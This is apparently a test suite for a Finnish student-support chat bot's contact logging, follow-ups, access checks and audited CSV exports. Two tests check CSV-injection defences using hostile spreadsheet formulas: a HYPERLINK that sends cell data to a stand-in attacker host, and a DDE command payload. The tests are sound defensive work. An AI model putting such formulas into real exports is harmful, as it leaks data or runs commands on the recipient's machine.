"""The contact log through the stand-in: an alert is acknowledged, the contact is logged with the
guided dialog, the coach is reminded on the agreed day, and the case is closed with a reason;
overdue follow-ups reach the coordinator; /seuranta puts the most urgent first; only the case's
coach (or a coordinator) can act; a restart in the middle of logging resumes."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

from bot.harness import Harness
from tests.conftest import AINO, EETU, KAISA, LINNEA, MATTI, moved_text
from tests.support import (
    OLLI,
    add_staff,
    buttons,
    concerns,
    enrol,
    inbox,
    last,
    log_contact,
    person_id,
    weekly,
)


async def contacts(h: Harness) -> list[dict[str, Any]]:
    return [dict(r) for r in await h.rt.db.fetchall("SELECT * FROM contacts ORDER BY id")]


async def followups(h: Harness) -> list[dict[str, Any]]:
    return [dict(r) for r in await h.rt.db.fetchall("SELECT * FROM followups ORDER BY id")]


async def audit_actions(h: Harness, actor_tg: int) -> list[str]:
    actor = await person_id(h, actor_tg)
    rows = await h.rt.db.fetchall(
        "SELECT action FROM audit_log WHERE actor_id = ? ORDER BY id", (actor,)
    )
    return [r["action"] for r in rows]


async def test_alert_to_follow_up_takes_six_taps_and_no_typing(h: Harness) -> None:
    """Issue 19.18: alert → acknowledge → log today's reached contact with a follow-up,
    every step a button press (nothing typed)."""
    await weekly(h, EETU, quitting="Kyllä")  # urgent: Matti is alerted
    taps = 0

    async def tap(label: str) -> None:
        nonlocal taps
        taps += 1
        await h.press(MATTI, label)

    await tap("Otan yhteyttä")
    await tap("Kirjaa yhteydenotto")
    first = await h.last_text(MATTI)
    assert "Opiskelija: Eetu Nieminen" in first
    assert "Miten olit yhteydessä?" in first
    await tap("Puhelimessa")  # reached: no "Tavoititko?" question
    await tap("Sovitaan seuranta")
    await tap("7 päivän päästä")
    assert "Opiskelija näkee muistiinpanon" in await h.last_text(MATTI)
    await tap("Ohita")
    assert "Muistutan sinua seurannasta" in await h.last_text(MATTI)
    assert taps <= 6
    [contact] = await contacts(h)
    assert contact["channel"] == "puhelu"
    assert contact["reached"] == 1
    assert contact["contacted_on"] == moved_text("2026-11-23")  # today by default
    assert json.loads(contact["participants"]) == ["opiskelija"]
    [followup] = await followups(h)
    assert followup["due_on"] == moved_text("2026-11-30")


async def test_face_to_face_is_not_asked_whether_reached(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await h.press(MATTI, "Kasvokkain")
    assert "Mitä seuraavaksi?" in await h.last_text(MATTI)


async def test_not_reached_is_an_answer_to_how_and_says_how_it_was_tried(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await log_contact(h, MATTI, tried="Soittamalla", then="Jätetään auki", note=None)
    [contact] = await contacts(h)
    assert contact["channel"] == "puhelu"
    assert contact["reached"] == 0
    assert json.loads(contact["participants"]) == []


async def test_alert_to_contact_to_reminder_to_closure(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")  # urgent: Matti is alerted
    await h.press(MATTI, "Otan yhteyttä")
    await h.say(MATTI, "/kirjaa Eetu")  # a contact on any day: the day is asked first
    first = await h.last_text(MATTI)
    assert "Milloin olit yhteydessä" in first

    await h.press(MATTI, "Tänään")
    await h.press(MATTI, "Puhelimessa")
    await h.press(MATTI, "Sovitaan seuranta")
    await h.press(MATTI, "3 päivän päästä")
    assert "Älä kirjaa tähän terveystietoja" in await h.last_text(MATTI)
    await h.say(MATTI, "Soitan ja kysyn, miten työpaja alkoi.")
    assert "Muistutan sinua seurannasta" in await h.last_text(MATTI)

    [contact] = await contacts(h)
    assert contact["channel"] == "puhelu"
    assert contact["reached"] == 1
    assert json.loads(contact["participants"]) == ["opiskelija"]
    assert contact["note"] == "Soitan ja kysyn, miten työpaja alkoi."
    assert contact["contacted_on"] == moved_text("2026-11-23")
    [followup] = await followups(h)
    assert followup["due_on"] == moved_text("2026-11-26")
    assert followup["done_at"] is None
    [case] = await concerns(h)
    assert case["status"] == "followup"
    assert case["first_contact_at"] is not None

    # On the agreed day, in Matti's working hours: a reminder with one-tap actions.
    await h.advance(timedelta(days=2))
    assert "Seuranta tänään" not in await h.last_text(MATTI)
    await h.advance(timedelta(days=1))  # Thu 26.11. 10.00
    reminder = (await inbox(h, MATTI))[-1]
    assert "Seuranta tänään: Eetu Nieminen" in reminder["text"]
    assert "Sovittu: Soitan ja kysyn, miten työpaja alkoi." in reminder["text"]
    assert buttons(reminder) == [
        "📝 Kirjaa yhteydenotto",
        "📅 Siirrä seurantaa",
        "✔️ Sulje tapaus",
        "🗂️ Tapaus",
    ]

    await h.press(MATTI, "📝 Kirjaa yhteydenotto")
    await log_contact(
        h,
        MATTI,
        how="Kasvokkain",
        note=None,
        then="Tapaus voidaan sulkea",
        reason="Ohjattu kuraattorille",
    )
    assert "tapaus suljettu" in await h.last_text(MATTI)
    [case] = await concerns(h)
    assert case["status"] == "closed"
    assert case["closure_reason"] == "kuraattori"
    assert [f["done_at"] is not None for f in await followups(h)] == [True]
    assert len(await contacts(h)) == 2
    await h.say(MATTI, "/seuranta")
    assert "Sinulla ei ole avoimia tapauksia" in await h.last_text(MATTI)


async def test_overdue_follow_up_reaches_the_coordinator(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")  # logging also acknowledges
    await log_contact(h, MATTI, when="Huomenna")  # follow-up Tue 24.11.
    [case] = await concerns(h)
    assert case["status"] == "followup"
    assert case["acknowledged_at"] is not None
    await h.advance(timedelta(days=1))  # Tue: Matti is reminded
    assert "Seuranta tänään: Eetu Nieminen" in await h.last_text(MATTI)
    await h.advance(timedelta(days=1))  # Wed: one school day late, not yet the coordinator
    assert not [m for m in await inbox(h, KAISA) if "myöhässä" in m["text"]]
    await h.say(MATTI, "/seuranta")
    listing = await h.last_text(MATTI)
    assert "Eetu Nieminen" in listing
    assert moved_text("seuranta myöhässä 1 pv (24.11.)") in listing
    await h.advance(timedelta(days=1))  # Thu: two school days late
    [notice] = [m for m in await inbox(h, KAISA) if "Seuranta myöhässä" in m["text"]]
    assert "Eetu Nieminen" in notice["text"]
    assert "Matti Virtanen" in notice["text"]
    assert moved_text("24.11.") in notice["text"]
    await h.advance(timedelta(days=1))
    assert len([m for m in await inbox(h, KAISA) if "Seuranta myöhässä" in m["text"]]) == 1

    # The coordinator can act on the case: she moves the follow-up to next week.
    await h.press(KAISA, "Siirrä seurantaa")
    await h.press(KAISA, "7 päivän päästä")
    assert moved_text("Seuranta siirretty: 4.12.") in await h.last_text(KAISA)
    [followup] = await followups(h)
    assert followup["due_on"] == moved_text("2026-12-04")
    assert followup["escalated_at"] is None


async def test_seuranta_lists_overdue_first_then_unacknowledged_then_the_rest(
    h: Harness,
) -> None:
    await weekly(h, AINO, quitting="Kyllä")  # urgent
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await log_contact(h, MATTI, when="päivän päästä")  # 3 days: Thu 26.11.
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await log_contact(h, MATTI, when="Huomenna")  # Tue 24.11.
    await h.advance(timedelta(days=2))  # Wed: Eetu's follow-up is a day late
    await h.say(LINNEA, "/prata")  # Linnea asks for a talk: a new, unacknowledged case
    await h.press(LINNEA, "Per meddelande")
    await h.say(MATTI, "/seuranta")
    listing = await h.last_text(MATTI)
    eetu, linnea, aino = (listing.index(n) for n in ("Eetu", "Linnea", "Aino"))
    assert eetu < linnea < aino
    assert "seuranta myöhässä 1 pv" in listing
    assert "odottaa kuittausta" in listing
    assert moved_text("seuranta 26.11.") in listing
    last = (await h.bot_messages(MATTI))[-1]
    assert buttons(last)[:2] == ["📝 1. Eetu Nieminen", "🗂️ 1."]
    # Every student shown is a staff read in the audit log.
    shown = await h.rt.db.fetchval(
        "SELECT COUNT(DISTINCT subject_id) FROM audit_log WHERE action = 'cases_list'"
    )
    assert shown == 3

    await h.press(MATTI, "🗂️ 3.")  # Aino's case card
    card = await h.last_text(MATTI)
    assert "Aino Laine" in card
    assert "Puhelimessa · tavoitettu · Opiskelija" in card
    assert "Sovittiin, että Eetu tulee maanantaina työpajalle." in card
    assert moved_text("Seuraava seuranta 26.11.") in card
    assert "case_card" in await audit_actions(h, MATTI)


async def test_only_the_cases_coach_or_a_coordinator_can_act(h: Harness) -> None:
    await add_staff(h, OLLI, "Olli Opettaja", "coach")
    await weekly(h, EETU, quitting="Kyllä")
    [alert] = await inbox(h, MATTI)
    log_data = alert["reply_markup"]["inline_keyboard"][1][0]["callback_data"]
    # Olli replays Matti's button: refused, nothing starts, and it is audited.
    olli_message = (await h.bot_messages(OLLI))[-1]
    query = await h.client.press(OLLI, olli_message["message_id"], log_data, force=True)
    await h.settle()
    assert "ei ole sinun" in ((await h.client.callback_answer(query)) or {}).get("text", "")
    opened = await h.rt.db.fetchval("SELECT COUNT(*) FROM sessions WHERE flow_id = 'yhteydenotto'")
    assert opened == 0
    # Olli's /kirjaa does not offer Matti's students, and /historia by name finds nothing.
    await h.say(OLLI, "/kirjaa Eetu")
    assert "ei löytynyt" in await h.last_text(OLLI)
    await h.say(OLLI, "/historia Eetu")
    assert "ei löytynyt" in await h.last_text(OLLI)
    # The coordinator can close it.
    await h.say(KAISA, "/seuranta")
    await h.press(KAISA, "🗂️ 1.")
    await h.press(KAISA, "Sulje tapaus")
    await h.press(KAISA, "Siirtynyt toiseen koulutukseen")
    assert "Tapaus suljettu: Siirtynyt toiseen koulutukseen" in await h.last_text(KAISA)
    [case] = await concerns(h)
    assert case["status"] == "closed"
    assert case["closure_reason"] == "toinen_koulutus"
    assert case["first_contact_at"] is None  # closed is not contacted
    # Matti's old alert buttons now get a kind no.
    query = await h.client.press(MATTI, alert["message_id"], log_data, force=True)
    await h.settle()
    assert "suljettu" in ((await h.client.callback_answer(query)) or {}).get("text", "")


async def test_a_note_over_the_limit_is_refused_kindly_and_nothing_changes(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await h.press(MATTI, "Yritin, en tavoittanut")
    await h.press(MATTI, "Viestillä")
    await h.press(MATTI, "Jätetään auki")
    await h.say(MATTI, "x" * 501)
    assert "500" in await h.last_text(MATTI)
    answered = await h.rt.db.fetchval(
        "SELECT COUNT(*) FROM answers a JOIN sessions s ON s.id = a.session_id"
        " WHERE s.flow_id = 'yhteydenotto' AND a.question_id = 'muistiinpano'"
    )
    assert answered == 0
    await h.say(MATTI, "Laitoin viestin, ei vastausta vielä.")
    [contact] = await contacts(h)
    assert contact["reached"] == 0
    assert contact["note"] == "Laitoin viestin, ei vastausta vielä."
    [case] = await concerns(h)
    # A try that did not reach the student acknowledges the case but is no contact.
    assert case["status"] == "acknowledged"
    assert case["first_contact_at"] is None


async def test_a_restart_in_the_middle_of_logging_resumes(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await h.press(MATTI, "Kotikäynnillä")
    await h.restart()
    await h.press(MATTI, "Sovitaan seuranta")
    await h.restart()
    await h.press(MATTI, "Huomenna")
    await h.say(MATTI, "Kävimme kotona, sovittiin paluusta kouluun.")
    [contact] = await contacts(h)
    assert contact["channel"] == "kotikaynti"
    assert contact["reached"] == 1
    assert contact["note"] == "Kävimme kotona, sovittiin paluusta kouluun."
    [followup] = await followups(h)
    assert followup["due_on"] == moved_text("2026-11-24")
    await h.restart()
    await h.advance(timedelta(days=1))
    assert "Seuranta tänään: Eetu Nieminen" in await h.last_text(MATTI)


async def test_kirjaa_for_a_student_without_a_case_opens_one_quietly(h: Harness) -> None:
    await h.say(MATTI, "/kirjaa")
    await h.press(MATTI, "Linnea Berg")
    assert "Opiskelija: Linnea Berg" in await h.last_text(MATTI)
    await log_contact(h, MATTI, how="Kasvokkain", then="Jätetään auki")
    [case] = await concerns(h)
    assert case["source"] == "coach"
    assert case["status"] == "contacted"
    assert case["level"] == "concern"
    assert await h.bot_messages(LINNEA) == []  # nothing is sent to the student
    assert [m for m in await inbox(h, KAISA) if "Linnea" in m["text"]] == []
    await h.say(MATTI, "/seuranta")
    assert "ei sovittua seuraavaa askelta" in await h.last_text(MATTI)


async def test_history_shows_every_case_and_is_audited(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await log_contact(h, MATTI, then="Tapaus voidaan sulkea", reason="Ohjattu Ohjaamoon")
    await h.say(MATTI, "/historia")
    await h.press(MATTI, "Eetu Nieminen")
    history = await h.last_text(MATTI)
    assert "Tapaushistoria: Eetu Nieminen" in history
    assert moved_text("Suljettu 23.11.: Ohjattu Ohjaamoon") in history
    assert "Sovittiin, että Eetu tulee maanantaina työpajalle." in history
    assert "keskeyttämisajatukset" in history.lower()
    eetu = await person_id(h, EETU)
    reads = await h.rt.db.fetchval(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'case_history' AND subject_id = ?",
        (eetu,),
    )
    assert reads == 1
    # Eetu sees that his case history was read.
    await h.say(EETU, "/omat_tiedot")
    assert "Matti Virtanen – katsoi tapaushistoriaasi" in await h.last_text(EETU)


async def test_replying_to_the_alert_starts_the_log(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    [alert] = await inbox(h, MATTI)
    await h.client.send_text(MATTI, "soitin", reply_to_message_id=alert["message_id"])
    await h.settle()
    assert "Miten olit yhteydessä?" in await h.last_text(MATTI)  # today's contact


async def test_an_unfinished_log_is_offered_before_starting_another(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await h.press(MATTI, "Puhelimessa")
    await h.say(MATTI, "/kirjaa Linnea")
    ask = await h.last_text(MATTI)
    assert "kesken kirjaus opiskelijasta Eetu Nieminen" in ask
    await h.press(MATTI, "Aloita uusi: Linnea Berg")
    assert "Opiskelija: Linnea Berg" in await h.last_text(MATTI)
    rows = await h.rt.db.fetchall(
        "SELECT status FROM sessions WHERE flow_id = 'yhteydenotto' ORDER BY id"
    )
    assert [r["status"] for r in rows] == ["cancelled", "open"]


async def test_coordinator_exports_cases_and_contacts_without_notes(h: Harness) -> None:
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Otan yhteyttä")
    await h.advance(timedelta(hours=2))
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await log_contact(h, MATTI, then="Tapaus voidaan sulkea", reason="Ohjattu kuraattorille")
    await h.say(KAISA, moved_text("/tapaukset 1.11.2026 30.11.2026"))
    sent = await inbox(h, KAISA)
    summary = next(
        m["text"] for m in sent if moved_text("Tapaukset 1.11.2026–30.11.2026") in m["text"]
    )
    assert "1 tapaus, 1 kirjattu yhteydenotto" in summary
    assert "Kiireellinen: 1 kpl, yhteys 1, suljettu 1" in summary
    assert "ensimmäinen yhteys 2 h" in summary
    documents = [m for m in sent if m.get("document")]
    assert [d["document"]["file_name"] for d in documents] == [
        moved_text("tapaukset_2026-11-01_2026-11-30.csv"),
        moved_text("yhteydenotot_2026-11-01_2026-11-30.csv"),
    ]
    cases_raw = (await h.client.file(documents[0]["document"]["file_id"])).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(cases_raw), delimiter=";"))
    assert row["student"] == "Eetu Nieminen"
    assert row["closure_reason"] == "kuraattori"
    assert row["hours_to_first_contact"] == "2,0"
    assert row["hours_to_closure"] == "2,0"
    assert row["contacts"] == "1"
    assert row["source"] == "signal"
    contacts_raw = (await h.client.file(documents[1]["document"]["file_id"])).decode("utf-8-sig")
    [contact] = list(csv.DictReader(io.StringIO(contacts_raw), delimiter=";"))
    assert "note" not in contact
    assert contact["channel"] == "puhelu"
    assert "työpajalle" not in contacts_raw
    exports = await h.rt.db.fetchall("SELECT detail FROM audit_log WHERE action = 'cases_export'")
    assert len(exports) == 1
    assert json.loads(exports[0]["detail"])["notes"] is False

    await h.say(KAISA, moved_text("/tapaukset 1.11.2026 30.11.2026 muistiinpanot"))
    documents = [m for m in await inbox(h, KAISA) if m.get("document")]
    raw = (await h.client.file(documents[-1]["document"]["file_id"])).decode("utf-8-sig")
    assert "Sovittiin, että Eetu tulee maanantaina työpajalle." in raw
    # A coach cannot export.
    await h.say(MATTI, "/tapaukset")
    assert "tapaukset_" not in str(await inbox(h, MATTI))


async def test_a_contact_on_a_digest_item_makes_it_a_followed_case(h: Harness) -> None:
    await weekly(h, AINO, mood="Huono")  # one hard week: an info item for the digest
    await h.say(MATTI, "/kirjaa Aino")
    await log_contact(h, MATTI, then="Jätetään auki")
    [case] = await concerns(h)
    assert case["level"] == "concern"
    assert case["source"] == "signal"
    assert case["status"] == "contacted"
    await h.advance(timedelta(days=7))  # the Monday digest closes info items, not this case
    [case] = await concerns(h)
    assert case["status"] == "contacted"
    await h.say(MATTI, "/seuranta")
    assert "Aino Laine" in await h.last_text(MATTI)


async def test_history_tells_the_coach_whether_the_measure_recovered(h: Harness) -> None:
    """Issue 23, point 9: the coach's /historia shows the triggering measure before the case
    and after the contact, and whether it recovered (the coach's own student)."""
    await weekly(h, EETU, mood="Huono")
    await h.advance(timedelta(days=7))
    await weekly(h, EETU, mood="Tosi huono")  # the second low week raises a concern
    case = (await concerns(h))[-1]
    assert case["measure"] == "wellbeing"
    assert case["level"] == "concern"
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await log_contact(h, MATTI, then="Jätetään auki")
    await h.say(MATTI, "/historia")
    await h.press(MATTI, "Eetu Nieminen")
    assert (
        "📈 Jaksaminen: ennen 1 → yhteydenoton jälkeen – · ei vielä vastauksia yhteydenoton"
        " jälkeen" in await h.last_text(MATTI)
    )
    await h.advance(timedelta(days=7))
    await weekly(h, EETU, mood="Hyvä")
    await h.say(MATTI, "/historia")
    await h.press(MATTI, "Eetu Nieminen")
    assert "📈 Jaksaminen: ennen 1 → yhteydenoton jälkeen 4 · palautui" in await h.last_text(MATTI)


async def test_a_note_that_looks_like_a_formula_stays_text_in_the_export(h: Harness) -> None:
    """CSV injection: a note starting with "=" must not run as a formula in the coordinator's
    spreadsheet; it is exported with a leading apostrophe, and numbers stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")'
    await weekly(h, EETU, quitting="Kyllä")
    await h.press(MATTI, "Kirjaa yhteydenotto")
    await log_contact(h, MATTI, note=formula, then="Tapaus voidaan sulkea")
    await h.say(KAISA, moved_text("/tapaukset 1.11.2026 30.11.2026 muistiinpanot"))
    documents = [m for m in await inbox(h, KAISA) if m.get("document")]
    raw = (await h.client.file(documents[-1]["document"]["file_id"])).decode("utf-8-sig")
    [contact] = list(csv.DictReader(io.StringIO(raw), delimiter=";"))
    assert contact["note"] == "'" + formula
    assert not any(v.startswith("=") for v in contact.values() if v)


def test_the_safe_writer_neutralises_every_formula_start_but_not_numbers() -> None:
    from bot.csv_safe import neutralise

    for bad in ("=1+1", "+cmd", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(bad) == "'" + bad
    assert neutralise("-3") == "-3"
    assert neutralise("2,5") == "2,5"
    assert neutralise(7) == 7
    assert neutralise("Aino Laine") == "Aino Laine"


async def test_a_coach_with_many_students_pages_through_the_list(h: Harness) -> None:
    """Every student can be picked, however many a coach has: twelve a page, ◀️ ▶️ in the
    same message, and ✖️ Peruuta leaves without a change."""
    await enrol(h, 30)
    await h.say(MATTI, "/kirjaa")
    first = await last(h, MATTI)
    page_one = [b for b in buttons(first) if b not in ("◀️", "▶️", "✖️ Peruuta")]
    assert len(page_one) == 12
    assert "▶️" in buttons(first)
    assert "◀️" not in buttons(first)
    await h.press(MATTI, "▶️")
    await h.press(MATTI, "▶️")
    third = await last(h, MATTI)
    assert third["message_id"] == first["message_id"]  # the same message, another page
    assert "◀️" in buttons(third)
    assert "▶️" not in buttons(third)
    name = next(b for b in buttons(third) if "Opiskelija" in b)
    assert name not in page_one
    await h.press(MATTI, name)
    assert f"Opiskelija: {name}" in await h.last_text(MATTI)
    listed = await h.rt.db.fetchval(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'contact_pick_list'"
    )
    assert listed >= 33  # every name on the list is an audited read


async def test_a_student_list_can_be_cancelled(h: Harness) -> None:
    await h.say(MATTI, "/historia")
    await h.press(MATTI, "✖️ Peruuta")
    message = await last(h, MATTI)
    assert "Peruttu, mitään ei muutettu." in message["text"]
    assert buttons(message) == []
